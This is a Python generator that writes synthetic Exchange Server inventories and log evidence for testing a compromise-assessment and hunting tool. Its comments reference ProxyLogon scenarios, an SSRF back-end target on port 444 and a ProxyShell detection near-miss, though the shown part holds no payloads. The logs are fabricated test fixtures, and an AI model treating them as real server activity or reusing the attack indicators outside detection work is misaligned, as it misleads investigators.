#!/usr/bin/env python3
"""Deterministic generator for the demo estate and for synthetic benchmark estates.

    python tools/generate_estate.py demo [--out inventories/demo]
    python tools/generate_estate.py synthetic --hosts 200 --out DIR [--seed N]

Both modes write ``<out>/hosts.yml`` (an Ansible inventory whose group ``exchange`` holds one child
group per DAG plus ``standalone`` and ``edge``) and ``<out>/evidence/<host>/`` evidence bundles in the
format of DESIGN.md ("Evidence bundle (format version 1)").

Why a generator and not hand-written files: the demo estate is evidence that the assessment and the
hunter are tested against, so it must be reproducible byte for byte (tests regenerate it and compare),
and its log files must follow the documented layouts exactly (header blocks, field counts, quoting,
CRLF). All randomness comes from ``random.Random`` seeded with strings, which Python hashes with
SHA-512, so the output does not depend on PYTHONHASHSEED, the platform or the run.

Standard library only, so the tool runs before the virtualenv exists (``tools/evtx_writer.py``,
which writes the one exported .evtx log of the demo, is standard library only too).
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import random
import sys
import uuid
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from evtx_writer import EvtxEvent, encode_evtx

REPO = Path(__file__).resolve().parent.parent
# The catalog copy that the rest of the project reads; build numbers never live in this code.
DEFAULT_CATALOG = REPO / "data" / "exchange-builds.csv"
DEMO_OUT = REPO / "inventories" / "demo"
DEMO_SEED = "exchange-remediation-demo-v1"

# ---------------------------------------------------------------------------------------------
# Log layouts (reference log-formats.md). Field lists are copied verbatim; the tests check them
# against their own copy of the reference text.
# ---------------------------------------------------------------------------------------------


def split_fields(text: str, separator: str = ",") -> list[str]:
    """Field lists are kept as the reference prints them (one string) so they can be compared by eye."""
    return text.split(separator)


HTTPPROXY_FIELDS = split_fields(
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,"
    "UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,"
    "AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
    "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,"
    "ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,"
    "HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,"
    "AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,"
    "TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,"
    "ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,"
    "BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,"
    "ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,"
    "HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,"
    "RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,"
    "UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus"
)

RPS_CMDLET_FIELDS = split_fields(
    "DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
    "ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,"
    "ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters,"
    "CmdletUniqueId,UserBudgetOnStart,ContributeToFailFast,RunspaceSettingsCreationHint,ADViewEntireForest,"
    "ADRecipientViewRoot,ADConfigurationDomainControllers,ADPreferredGlobalCatalogs,"
    "ADPreferredDomainControllers,ADUserConfigurationDomainController,ADUserPreferredGlobalCatalog,"
    "ADuserPreferredDomainControllers,ThrottlingInfo,DelayInfo,ThrottlingDelay,IsOutputObjectRedacted,"
    "CmdletProxyStage,CmdletProxyRemoteServer,CmdletProxyRemoteServerVersion,CmdletProxyMethod,"
    "ProxiedObjectCount,CmdletProxyLatency,OutputObjectCount,ParameterBinding,BeginProcessing,ProcessRecord,"
    "EndProcessing,StopProcessing,BizLogic,PowerShellLatency,UserInteractionLatency,"
    "ProvisioningLayerLatency,ActivityContextLifeTime,TotalTime,ErrorType,ExecutionResult,CacheHitCount,"
    "CacheMissCount,GenericLatency,GenericInfo,GenericErrors,ObjectGuid,ExternalDirectoryOrganizationId,"
    "ExternalDirectoryObjectId,NonPiiParameters"
)

RPS_HTTP_FIELDS = split_fields(
    "DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
    "UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,"
    "ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,"
    "CommandName,SessionId,ShellId,FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,"
    "ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,GenericErrors"
)

ECP_FIELDS = ["TimeStamp", "ServerName", "EventId", "EventData"]

# The OAB generator log's field list is not published (log-formats.md §4); rules match the message
# text only. This list is our own construction and is documented as such in the demo README.
OABGEN_FIELDS = ["DateTime", "ServerName", "EventLevel", "Component", "Message"]

IIS_FIELDS = split_fields(
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "sc-status sc-substatus sc-win32-status time-taken",
    " ",
)

# IIS version by Windows version: the #Software directive names the IIS release of the OS.
IIS_SOFTWARE = {"6.1": "7.5", "6.3": "8.5", "10.0": "10.0"}

HTTPPROXY_PROTOCOLS_V15 = ["Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Oab", "Owa", "PowerShell", "RpcHttp"]

# Hours (UTC) whose hourly HttpProxy / Rps files a triage copy keeps on each "dense" day. HttpProxy
# rolls over every hour, so keeping all 24 hours of every day for every protocol folder would make
# thousands of nearly empty files; a sample of the working day shows the same traffic mix.
SAMPLED_HOURS = (8, 10, 13, 15)
# Relative request volume per UTC hour (the estate sits in UTC+1: the working day is 07-17 UTC).
HOUR_WEIGHTS = [1, 1, 1, 1, 1, 2, 4, 9, 12, 12, 11, 10, 8, 10, 11, 10, 8, 5, 3, 2, 2, 2, 1, 1]


# ---------------------------------------------------------------------------------------------
# Build catalog
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class CatalogRow:
    product: str
    cu: str
    cu_build: str
    cu_release_date: str
    cu_kb: str
    update: str
    update_build: str
    update_kb: str

    @property
    def build(self) -> str:
        return self.update_build or self.cu_build


class Catalog:
    """The rows of exchange-builds.csv, with the few look-ups the generator needs."""

    def __init__(self, rows: list[CatalogRow]) -> None:
        self.rows = rows

    @classmethod
    def load(cls, path: Path) -> Catalog:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = [
                CatalogRow(**{key: (value or "").strip() for key, value in raw.items()})
                for raw in csv.DictReader(handle)
            ]
        if not rows:
            raise ValueError(f"{path}: no rows")
        return cls(rows)

    def row(self, product: str, cu: str, update: str = "") -> CatalogRow:
        for row in self.rows:
            if row.product == product and row.cu == cu and row.update == update:
                return row
        raise KeyError(f"catalog has no row {product} {cu} {update or '(no update)'}")

    def cu_rows(self, product: str, cu: str) -> list[CatalogRow]:
        """Update rows of one CU, oldest build first (Feb19SU-in-CU rows excluded: not installable)."""
        rows = [
            r
            for r in self.rows
            if r.product == product and r.cu == cu and r.update and r.update_build != r.cu_build
        ]
        return sorted(rows, key=lambda r: parse_build(r.update_build))

    def patched_against(self, build: Build, product: str, update: str) -> bool:
        """HealthChecker's "patched against SU X" (exchange-builds.md), used to place synthetic attacks
        only where they could have succeeded."""
        rows = [r for r in self.rows if r.product == product and r.update == update]
        if not rows:
            return True
        newest = max(rows, key=lambda r: r.cu_release_date)
        if build >= parse_build(newest.update_build):
            return True
        own = [r for r in rows if parse_build(r.cu_build)[:3] == build[:3]]
        return bool(own) and build >= parse_build(own[0].update_build)

    def cus(self, product: str) -> list[CatalogRow]:
        """One row per CU of a product (the CU row itself), oldest first."""
        seen: dict[str, CatalogRow] = {}
        for row in self.rows:
            if row.product == product and not row.update and row.cu not in seen:
                seen[row.cu] = row
        return sorted(seen.values(), key=lambda r: parse_build(r.cu_build))


Build = tuple[int, int, int, int]


def parse_build(text: str) -> Build:
    parts = [int(p) for p in text.strip().split(".")]
    if len(parts) != 4:
        raise ValueError(f"not a four-part build: {text!r}")
    return parts[0], parts[1], parts[2], parts[3]


def build_padded(build: Build) -> str:
    # ExSetup.exe FileVersion as Windows prints it for Exchange 2013+ ("15.01.2176.002").
    return f"{build[0]}.{build[1]:02d}.{build[2]:04d}.{build[3]:03d}"


def build_plain(build: Build) -> str:
    return ".".join(str(p) for p in build)


def be_version(build: Build) -> int:
    """HttpProxy ``FEAuth=BEVersion-<n>``: Exchange's packed ServerVersion integer.

    Decoding the published sample (1941997017 = 0x73C085D9) gives 15.0.1497 with the 0x70000000 and
    0x8000 flag bits set, so the same packing is used for every build.
    """
    return 0x70000000 | (build[0] << 22) | (build[1] << 16) | 0x8000 | (build[2] & 0x7FFF)


# Exchange 2010 is not in the CSV (its CU/SU scheme differs); these facts mirror data/products.yml.
EX2010_SP3_RU32 = "14.3.513.0"
EX2010_RU32_PACKAGE = "Update Rollup 32 for Exchange Server 2010 Service Pack 3 (KB5000978)"
EX2010_RU32_RELEASED = date(2021, 3, 2)

MONTHS = {
    m: i
    for i, m in enumerate(
        ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"], start=1
    )
}


def update_release_day(update: str) -> date:
    """Release day of an SU/HU from its name: the second Tuesday (Patch Tuesday) of its month.

    The CSV has no SU dates; the name carries month and year, and SUs ship on Patch Tuesday.
    A ``v2`` re-release came about three weeks later (Nov24SUv2, Aug23SUv2).
    """
    month, year = MONTHS[update[:3]], 2000 + int(update[3:5])
    first = date(year, month, 1)
    tuesday = first + timedelta(days=(1 - first.weekday()) % 7 + 7)
    return tuesday + timedelta(days=21) if update.endswith("v2") else tuesday


# ---------------------------------------------------------------------------------------------
# Small helpers
# ---------------------------------------------------------------------------------------------


def new_guid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def hex_id(rng: random.Random, length: int, upper: bool = False) -> str:
    text = "".join(rng.choice("0123456789abcdef") for _ in range(length))
    return text.upper() if upper else text


def iso_ms(moment: datetime) -> str:
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond // 1000:03d}Z"


def iso_7(moment: datetime) -> str:
    # Get-WinEvent | ConvertTo-Json prints TimeCreated with 7 fractional digits.
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond:06d}0Z"


def iso_s(moment: datetime) -> str:
    return f"{moment:%Y-%m-%dT%H:%M:%SZ}"


def at(text: str) -> datetime:
    """Parse '2021-03-03T06:49:42.162' (UTC) into an aware datetime."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def weighted(rng: random.Random, options: list[tuple[str, float]]) -> str:
    return rng.choices([o[0] for o in options], weights=[o[1] for o in options], k=1)[0]


def csv_line(values: Iterable[str]) -> str:
    # Exchange logs are RFC 4180: a value with '"' or ',' is wrapped in '"' with inner '"' doubled.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="", quoting=csv.QUOTE_MINIMAL).writerow(list(values))
    return buffer.getvalue()


def no_commas(text: str) -> str:
    # Exchange CSV logs replace commas in free text (user agents) by a space instead of quoting.
    return text.replace(",", " ")


def iis_value(text: str) -> str:
    # W3C logs: no quoting, spaces become '+', empty becomes '-'.
    return text.replace(" ", "+") if text else "-"


def bag(items: list[tuple[str, str]]) -> str:
    """ECP ``EventData``: ``S:KEY=value`` items joined by ';'; an item that contains ';' or a single
    quote is wrapped in single quotes with inner quotes doubled (log-formats.md §1)."""
    out = []
    for key, value in items:
        item = f"S:{key}={value}"
        if ";" in item or "'" in item:
            item = "'" + item.replace("'", "''") + "'"
        out.append(item)
    return ";".join(out)


def windows_to_bundle(path: str) -> str:
    """C:\\inetpub\\wwwroot\\x.aspx -> files/C/inetpub/wwwroot/x.aspx (DESIGN.md bundle layout)."""
    drive, _, rest = path.partition(":\\")
    return "files/" + drive.upper() + "/" + rest.replace("\\", "/")


# ---------------------------------------------------------------------------------------------
# The organisation: users, admins, addresses
# ---------------------------------------------------------------------------------------------

FIRST_NAMES = [
    "Anna",
    "Ben",
    "Clara",
    "David",
    "Eva",
    "Felix",
    "Greta",
    "Hannes",
    "Ines",
    "Jonas",
    "Katrin",
    "Lukas",
    "Maria",
    "Niklas",
    "Olga",
    "Paul",
    "Rosa",
    "Simon",
    "Tanja",
    "Uwe",
    "Vera",
    "Walter",
    "Yvonne",
    "Zoe",
    "Aylin",
    "Bruno",
    "Chiara",
    "Dennis",
    "Elena",
    "Fabian",
    "Hanna",
    "Igor",
    "Julia",
    "Kevin",
    "Lea",
    "Marco",
]
LAST_NAMES = [
    "Martin",
    "Keller",
    "Schmidt",
    "Novak",
    "Berg",
    "Hartmann",
    "Wolf",
    "Jansen",
    "Costa",
    "Lehmann",
    "Koch",
    "Brandt",
    "Yilmaz",
    "Frank",
    "Meyer",
    "Vogel",
    "Lang",
    "Peters",
    "Kovac",
    "Sommer",
    "Roth",
    "Fischer",
]
DEVICE_TYPES = [("iPhone", "iPhone"), ("Android", "Android"), ("SAMSUNGSMS928B", "Samsung"), ("iPad", "iPad")]


@dataclass(frozen=True)
class User:
    sam: str
    display: str
    upn: str
    rid: int
    mailbox_guid: str
    workstation_ip: str
    remote_ip: str  # home/mobile address, used when the user works from outside
    device_type: str
    device_id: str
    device_family: str
    browser: int
    outlook: int
    admin: bool = False


@dataclass(frozen=True)
class Org:
    netbios: str
    dns: str
    smtp: str
    domain_sid: str
    users: list[User]
    admins: list[User]
    oab_guid: str
    oab_vdir_guid: str


def build_org(seed: str, user_count: int = 72) -> Org:
    rng = random.Random(f"{seed}:org")
    users: list[User] = []
    taken: set[str] = set()
    rid = 1104
    while len(users) < user_count:
        first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
        sam = (first[0] + last).lower()
        if sam in taken:
            continue
        taken.add(sam)
        device_type, family = rng.choice(DEVICE_TYPES)
        users.append(
            User(
                sam=sam,
                display=f"{first} {last}",
                upn=f"{first.lower()}.{last.lower()}@contoso.com",
                rid=rid,
                mailbox_guid=new_guid(rng),
                workstation_ip=f"10.0.{rng.choice((20, 21))}.{rng.randint(20, 250)}",
                remote_ip=rng.choice(("198.51.100", "203.0.113")) + f".{rng.randint(2, 250)}",
                device_type=device_type,
                device_id=hex_id(rng, 32, upper=True),
                device_family=family,
                browser=rng.randrange(4),
                outlook=rng.randrange(3),
            )
        )
        rid += 1
    admins = [
        User(
            sam="exadmin",
            display="Exchange Admin",
            upn="exadmin@contoso.com",
            rid=1102,
            mailbox_guid=new_guid(rng),
            workstation_ip="10.0.30.15",
            remote_ip="10.8.0.42",
            device_type="iPhone",
            device_id=hex_id(rng, 32, upper=True),
            device_family="iPhone",
            browser=0,
            outlook=0,
            admin=True,
        ),
        User(
            sam="svc-helpdesk",
            display="Helpdesk Service",
            upn="svc-helpdesk@contoso.com",
            rid=1103,
            mailbox_guid=new_guid(rng),
            workstation_ip="10.0.30.22",
            remote_ip="10.0.30.22",
            device_type="iPhone",
            device_id=hex_id(rng, 32, upper=True),
            device_family="iPhone",
            browser=1,
            outlook=1,
            admin=True,
        ),
    ]
    return Org(
        netbios="CONTOSO",
        dns="contoso.local",
        smtp="contoso.com",
        domain_sid="S-1-5-21-1004336348-1177238915-682003330",
        users=users,
        admins=admins,
        oab_guid=new_guid(rng),
        oab_vdir_guid=new_guid(rng),
    )


def user_agents(era: int) -> dict[str, list[str]]:
    """Real client user-agent strings of the era (2021 for the ProxyLogon server, 2026 otherwise)."""
    if era <= 2021:
        return {
            "browser": [
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/88.0.4324.190 Safari/537.36",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                "Version/14.0.3 Safari/605.1.15",
            ],
            "outlook": [
                "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
                "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
                "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.10371; Pro)",
            ],
            "iPhone": ["Apple-iPhone12C1/1804.52", "Apple-iPhone13C2/1804.52"],
            "iPad": ["Apple-iPad8C1/1804.52"],
            "Android": ["Android-Mail/2021.01.31.355829563.Release"],
            "Samsung": ["SAMSUNG-SM-G991B/101.10002"],
            "airwatch": ["AirWatch Boxer/21.01.0.8 (iPhone; iOS 14.4)"],
            "mac": ["MacOutlook/16.46.21021202 (Intelx64 Mac OS X 11.2.1 (Build 20D74))"],
            "ewsapi": ["ExchangeServicesClient/15.00.0913.015"],
            "bits": ["Microsoft BITS/7.8"],
            "powershell": ["Microsoft WinRM Client"],
            "psversion": ["5.1.14393.4225"],
        }
    return {
        "browser": [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/155.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:158.0) Gecko/20100101 Firefox/158.0",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            "Version/27.1 Safari/605.1.15",
        ],
        "outlook": [
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.19328; Pro)",
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.19231; Pro)",
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.10417; Pro)",
        ],
        "iPhone": ["Apple-iPhone17C1/2302.85", "Apple-iPhone16C2/2302.85", "Apple-iPhone15C3/2301.341"],
        "iPad": ["Apple-iPad16C3/2302.85"],
        "Android": ["Android-Mail/2026.10.19.803217745.Release"],
        "Samsung": ["SAMSUNG-SM-S928B/101.160001"],
        "airwatch": ["AirWatch Boxer/26.10.0.12 (iPhone; iOS 26.1)"],
        "mac": ["MacOutlook/16.103.25110915 (Intelx64 Mac OS X 15.7.2 (Build 24G325))"],
        "ewsapi": ["ExchangeServicesClient/15.00.0913.015"],
        "bits": ["Microsoft BITS/7.8"],
        "powershell": ["Microsoft WinRM Client"],
        "psversion": ["5.1.20348.4294"],
    }


# ---------------------------------------------------------------------------------------------
# Server specification and derived context
# ---------------------------------------------------------------------------------------------


@dataclass
class ServerSpec:
    """Everything that makes one server different; all the rest is derived or random-seeded."""

    name: str  # inventory hostname (lowercase)
    group: str  # inventory child group of `exchange`
    product: str  # CSV product name; "Exchange Server 2010" is handled without the CSV
    cu: str
    update: str = ""  # "" = no SU/HU installed on the CU
    build_override: str = ""  # a build that is not a CSV row (Exchange 2010, "not in catalog")
    padded_version: bool = True  # ExSetup FileVersion zero-padded or plain
    roles: list[str] = field(default_factory=lambda: ["Mailbox"])
    dag: str | None = None
    site: str | None = "HQ"
    os_caption: str = "Microsoft Windows Server 2022 Standard"
    os_version: str = "10.0.20348"
    dotnet_release: int = 533325
    has_iis: bool = True
    url_rewrite: str | None = "7.2.1993"
    rewrite_rules: list[str] = field(default_factory=list)
    mitigation_service: bool | None = True  # None = the server has no EEMS (older CU, Edge, 2013, 2010)
    ep_product: str = "Microsoft Defender Antivirus"
    ep_real_time: bool = True
    ep_signature_age: int = 1
    collected_at: datetime = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
    ip: str = "10.0.10.20"
    install_path: str = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
    installed_on: date | None = None  # creation day of the install folder (server.json exchange.installed_on)
    window_days: int = 30  # how far back the collected logs reach (default retention ~30 days)
    daily_requests: int = 26  # front-end requests on an ordinary weekday (a sample, see SAMPLED_HOURS)
    dense_days: tuple[date, ...] = ()  # days with a full working day of traffic
    dense_requests: int = 750
    update_history: int = 2  # earlier SU/HU packages of the same CU still registered
    scenario: str = ""  # "proxylogon" (compromised demo server), "attempts" (patched, attacked), "synthetic-proxylogon"
    damaged: bool = False  # server.json truncated mid-object
    bom: bool = True  # Exchange CSV logs with a UTF-8 BOM (both occur in the field)
    iis_restart: date | None = None  # a day whose IIS log has a second directive block (iisreset)
    peers: list[str] = field(default_factory=list)  # DAG member names, including this one
    users: int = 40  # mailboxes homed on this server / DAG
    management_evtx: bool = False  # MSExchange Management exported as .evtx instead of the collector's .jsonl


@dataclass
class Context:
    spec: ServerSpec
    org: Org
    rng: random.Random
    build: Build
    cu_build: Build
    netbios: str
    fqdn: str
    ua: dict[str, list[str]]
    users: list[User]
    databases: list[tuple[str, str, str]]  # (name, guid, fqdn of the server holding the active copy)
    health_sam: str
    health_rid: int
    protocols: list[str]
    peer_builds: dict[str, Build]

    @property
    def v15(self) -> bool:
        return self.build[0] >= 15

    def ex(self, relative: str) -> str:
        """Windows path under the Exchange install path (``<EX>`` in the reference docs)."""
        return self.spec.install_path + relative

    def database_of(self, user: User) -> tuple[str, str, str]:
        return self.databases[user.rid % len(self.databases)]


def resolve_build(spec: ServerSpec, catalog: Catalog) -> tuple[Build, Build]:
    """(installed build, build of its CU) of a server, from the catalog unless overridden."""
    if spec.build_override:
        build = parse_build(spec.build_override)
        if spec.product.endswith("2010"):
            return build, build
        return build, parse_build(catalog.row(spec.product, spec.cu).cu_build)
    row = catalog.row(spec.product, spec.cu, spec.update)
    return parse_build(row.build), parse_build(row.cu_build)


def make_context(
    spec: ServerSpec, org: Org, catalog: Catalog, seed: str, estate: list[ServerSpec]
) -> Context:
    rng = random.Random(f"{seed}:{spec.name}")
    build, cu_build = resolve_build(spec, catalog)
    # HttpProxy logs the version of the back end it proxied to; DAG peers may run another CU.
    peer_builds = {
        f"{other.name}.{org.dns}": resolve_build(other, catalog)[0]
        for other in estate
        if other.name in spec.peers
    }
    era = spec.collected_at.year
    # Mailboxes of this server: a stable slice of the org, so one user is on one server only.
    start = (sum(ord(c) for c in (spec.dag or spec.name)) * 7) % len(org.users)
    users = [org.users[(start + i) % len(org.users)] for i in range(min(spec.users, len(org.users)))]
    members = spec.peers or [spec.name]
    databases = []
    for index in range(max(2, len(members) + 1)):
        db_rng = random.Random(f"{seed}:{spec.dag or spec.name}:db{index}")
        databases.append(
            (f"DB{index + 1:02d}", new_guid(db_rng), f"{members[index % len(members)]}.{org.dns}")
        )
    if build[0] < 15:
        protocols = ["Autodiscover", "Eas", "Ecp", "Ews", "Oab", "Owa", "RpcHttp"]
    else:
        protocols = list(HTTPPROXY_PROTOCOLS_V15)
    health_rng = random.Random(f"{seed}:{spec.name}:health")
    return Context(
        spec=spec,
        org=org,
        rng=rng,
        build=build,
        cu_build=cu_build,
        netbios=spec.name.upper(),
        fqdn=f"{spec.name}.{org.dns}",
        ua=user_agents(era),
        users=users,
        databases=databases,
        health_sam="HealthMailbox" + hex_id(health_rng, 32),
        health_rid=1140 + health_rng.randrange(400),
        protocols=protocols,
        peer_builds=peer_builds,
    )


# ---------------------------------------------------------------------------------------------
# Requests: one record per front-end HTTP request, rendered into IIS, HttpProxy, ECP and Rps logs
# ---------------------------------------------------------------------------------------------


@dataclass
class Request:
    time: datetime
    protocol: str
    method: str
    stem: str
    query: str = ""  # without '?'
    url_host: str = "mail.contoso.com"
    user: str = ""  # DOMAIN\sam or UPN as authenticated; '' = anonymous
    auth_type: str = ""
    anchor: str = ""
    ua: str = ""
    client_ip: str = ""
    status: int = 200
    substatus: int = 0
    win32: int = 0
    taken: int = 15
    target: str = ""  # back-end fqdn (":444" for the SSRF)
    request_id: str = ""
    routing_hint: str = ""
    backend_cookie: str = ""
    protocol_action: str = ""
    client_request_id: str = ""
    request_bytes: int = 0
    response_bytes: int = 0
    referer: str = ""
    server_ip: str = ""  # s-ip override (probes arrive on ::1)
    iis_query: str | None = None  # explicit cs-uri-query when it differs from query + Exchange suffix
    proxied: bool = True  # written to HttpProxy (health-check pages are answered by the front end)
    backend_status: str | None = None
    generic_info: str | None = None
    ecp_cmd: str = ""  # ECP.Request row to write for this request
    ecp_url: str = ""
    rps_cmdlets: list[tuple[str, str]] = field(default_factory=list)  # (cmdlet, parameters)
    rps_client: str = ""
    hp_fields: dict[str, str] = field(default_factory=dict)  # extra HttpProxy values (attack rows)


def canary(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(76)) + "."


def user_domain(ctx: Context, user: User) -> str:
    return f"{ctx.org.netbios}\\{user.sam}"


def user_sid(ctx: Context, rid: int) -> str:
    return f"{ctx.org.domain_sid}-{rid}"


def user_ip(ctx: Context, user: User, remote_share: float) -> str:
    return user.remote_ip if ctx.rng.random() < remote_share else user.workstation_ip


def authenticated(ctx: Context, req: Request, user: User, auth: str, sid_anchor: bool = True) -> Request:
    req.user = user_domain(ctx, user)
    req.auth_type = auth
    if sid_anchor and not req.anchor:
        req.anchor = f"Sid~{user_sid(ctx, user.rid)}"
    req.routing_hint = req.routing_hint or "WindowsIdentity"
    return req


def challenge(ctx: Context, req: Request) -> Request:
    """Turn a request into the 401 that precedes NTLM/Negotiate authentication."""
    req.status, req.substatus, req.win32 = 401, 1, 2148074254
    req.user, req.anchor, req.routing_hint, req.backend_cookie = "", "", "", ""
    req.taken = ctx.rng.randint(0, 6)
    req.response_bytes = 0
    return req


def gen_mapi(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    _, db_guid, active = ctx.database_of(user)
    endpoint = "emsmdb" if rng.random() < 0.8 else "nspi"
    action = (
        weighted(rng, [("Execute", 6), ("NotificationWait", 3), ("Connect", 1)])
        if endpoint == "emsmdb"
        else weighted(rng, [("Bind", 1), ("QueryRows", 2), ("GetMatches", 1)])
    )
    req = Request(
        time=t,
        protocol="Mapi",
        method="POST",
        stem=f"/mapi/{endpoint}/",
        query=f"MailboxId={user.mailbox_guid}@contoso.com",
        ua=ctx.ua["outlook"][user.outlook],
        client_ip=user_ip(ctx, user, 0.15),
        target=active,
        anchor=f"MailboxGuid~{user.mailbox_guid}",
        routing_hint="Url-MailboxGuid",
        protocol_action=action,
        client_request_id=new_guid(rng),
        backend_cookie=f"Database~{db_guid}~~{(t + timedelta(days=30)):%Y-%m-%dT%H:%M:%S}",
        request_bytes=rng.randint(300, 6000),
        response_bytes=rng.randint(200, 40000),
        taken=rng.randint(40000, 60000) if action == "NotificationWait" else rng.randint(3, 180),
    )
    authenticated(ctx, req, user, rng.choice(("Negotiate", "NTLM")), sid_anchor=False)
    return challenge(ctx, req) if rng.random() < 0.04 else req


def gen_ews(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    kind = weighted(rng, [("outlook", 6), ("mac", 2), ("ewsapi", 1)])
    req = Request(
        time=t,
        protocol="Ews",
        method="POST",
        stem="/EWS/Exchange.asmx",
        ua=rng.choice(ctx.ua[kind]),
        client_ip=user_ip(ctx, user, 0.25),
        target=ctx.database_of(user)[2],
        request_bytes=rng.randint(600, 4000),
        response_bytes=rng.randint(500, 90000),
        taken=rng.randint(8, 900),
        protocol_action=weighted(
            rng,
            [
                ("GetUserAvailability", 3),
                ("FindItem", 2),
                ("GetItem", 2),
                ("SyncFolderItems", 3),
                ("GetUserPhoto", 1),
            ],
        ),
    )
    if req.protocol_action == "GetUserPhoto":
        req.method, req.stem = "GET", "/EWS/Exchange.asmx/s/GetUserPhoto"
        req.query = f"email={user.upn}&size=HR64x64"
    authenticated(ctx, req, user, rng.choice(("Negotiate", "NTLM")))
    return challenge(ctx, req) if rng.random() < 0.07 else req


def gen_autodiscover(ctx: Context, t: datetime, user: User) -> Request:
    rng = ctx.rng
    # Autodiscover v2 (autodiscover.json) exists from Exchange 2016 on; its legitimate queries are the
    # near-miss for the ProxyShell rules (same stem, no "Email=autodiscover/..." in the query).
    if ctx.build[:2] >= (15, 1) and rng.random() < 0.3:
        proto = rng.choice(("ActiveSync", "Ews", "Rest"))
        req = Request(
            time=t,
            protocol="Autodiscover",
            method="GET",
            stem="/autodiscover/autodiscover.json",
            query=f"Email={user.upn.replace('@', '%40')}&Protocol={proto}&RedirectCount=1",
            url_host="autodiscover.contoso.com",
            ua=ctx.ua[user.device_family][0],
            client_ip=user.remote_ip,
            anchor=f"Smtp~{user.upn}",
            routing_hint="Smtp-UPN",
            target=ctx.database_of(user)[2],
            request_bytes=0,
            response_bytes=rng.randint(180, 260),
            taken=rng.randint(4, 40),
        )
        return req
    req = Request(
        time=t,
        protocol="Autodiscover",
        method="POST",
        stem="/Autodiscover/Autodiscover.xml",
        url_host="autodiscover.contoso.com",
        ua=ctx.ua["outlook"][user.outlook],
